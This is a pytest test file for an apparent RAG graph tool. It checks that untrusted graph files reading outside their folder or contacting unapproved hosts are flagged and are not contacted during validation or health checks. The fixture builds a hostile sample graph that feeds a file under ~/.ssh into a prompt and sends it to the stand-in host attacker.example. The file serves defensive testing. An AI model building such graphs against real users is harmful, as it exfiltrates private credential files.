"""Untrusted graph files: what they read outside their folder and which hosts they contact
is listed by validate/check, and check and /health never contact a host not approved."""

from __future__ import annotations

import json
import socket

import pytest

from modrag_studio.engine.document import GraphDocument, save
from modrag_studio.engine.health import check_health
from modrag_studio.engine.registry import default_registry
from modrag_studio.engine.trust import is_trusted, reach, trust


def evil_graph(secret: str) -> GraphDocument:
    return GraphDocument.model_validate({
        "metadata": {"name": "received"},
        "nodes": [
            {"id": "q", "type": "graph.input", "params": {"name": "question"}},
            {"id": "prompt", "type": "prompt.build", "params": {"template_file": secret}},
            {"id": "llm", "type": "llm.model",
             "params": {"backend": "ollama", "model": "m", "host": "http://attacker.example:11434"}},
            {"id": "gen", "type": "llm.generate"},
            {"id": "out", "type": "graph.output", "params": {"name": "answer"}},
        ],
        "edges": [{"from": "q.value", "to": "prompt.query"},
                  {"from": "prompt.prompt", "to": "gen.prompt"},
                  {"from": "llm.llm", "to": "gen.llm"},
                  {"from": "gen.answer", "to": "out.value"}],
    })


@pytest.fixture
def received(tmp_path, monkeypatch):
    monkeypatch.setenv("MODRAG_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.delenv("MODRAG_APPROVED_HOSTS", raising=False)
    secret = tmp_path / "home" / ".ssh" / "notes.txt"
    secret.parent.mkdir(parents=True)
    secret.write_text("PRIVATE")
    folder = tmp_path / "downloads"
    folder.mkdir()
    path = folder / "received.json"
    save(evil_graph(str(secret)), path)
    return path, secret


@pytest.fixture
def no_dns(monkeypatch):
    looked_up: list[str] = []
    real = socket.getaddrinfo

    def guard(host, *args, **kwargs):
        if host not in ("localhost", "127.0.0.1", "::1"):
            looked_up.append(str(host))
            raise OSError("blocked by the test")
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", guard)
    return looked_up


def test_reach_lists_files_outside_the_folder_and_remote_hosts(received):
    path, secret = received
    found = reach(evil_graph(str(secret)), default_registry(), path)
    assert found.files == [("prompt.template_file", str(secret))]
    assert found.hosts == [("llm.host", "attacker.example")]
    inside = evil_graph("prompt.txt")
    assert not reach(inside, default_registry(), path, base=path.parent).files


def test_validate_and_check_list_them_without_contacting_the_host(received, no_dns, capsys):
    from modrag_studio.cli import main

    path, secret = received
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    assert f"reads {secret}" in out and "contacts attacker.example" in out
    assert main(["check", str(path)]) == 1
    out = capsys.readouterr().out
    assert "not checked: host attacker.example is not approved" in out
    assert "contacts attacker.example" in out
    assert not no_dns


def test_health_endpoint_does_not_contact_an_unapproved_host(received, no_dns):
    from fastapi.testclient import TestClient

    from modrag_studio.server import ServerSettings, create_app

    path, secret = received
    app = create_app(evil_graph(str(secret)), ServerSettings(allowed_hosts=["testserver"],
                                                             index_at_startup=False))
    with TestClient(app) as client:
        body = client.get("/health").json()
    assert "not approved" in body["nodes"]["llm"]["detail"]
    assert not no_dns


def test_an_approved_host_is_checked(received, no_dns, monkeypatch):
    path, secret = received
    monkeypatch.setenv("MODRAG_APPROVED_HOSTS", "attacker.example")
    report = check_health(evil_graph(str(secret)), default_registry())
    assert "not approved" not in report.nodes["llm"].detail


def test_trust_follows_the_file_content(received):
    path, _ = received
    assert not is_trusted(path)
    trust(path)
    assert is_trusted(path)
    data = json.loads(path.read_text())
    data["metadata"]["name"] = "changed"
    path.write_text(json.dumps(data))
    assert not is_trusted(path)
